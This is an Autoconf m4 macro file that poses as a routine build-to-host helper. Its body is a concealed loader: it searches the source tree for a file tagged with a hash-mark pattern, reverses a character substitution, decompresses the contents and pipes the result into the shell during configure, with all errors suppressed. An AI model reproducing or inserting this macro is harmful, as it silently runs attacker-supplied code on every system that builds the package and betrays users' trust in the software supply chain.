# build-to-host.m4 serial 30
AC_DEFUN([gl_BUILD_TO_HOST_INIT],
[
  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`
  if test -n "$gl_am_configmake"; then
    HAVE_PKG_CONFIGMAKE=1
  fi
  gl_path_map='tr "\t \-_" " \t_\-"'
  gl_localedir_prefix=`echo $gl_am_configmake | sed "s/.*\.//g"`
  gl_[$1]_config='sed "r\n" $gl_am_configmake | eval $gl_path_map | $gl_localedir_prefix -d 2>/dev/null'
  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_$1 | $SHELL 2>/dev/null], [gl_config_$1='$gl_[$1]_config'])
])
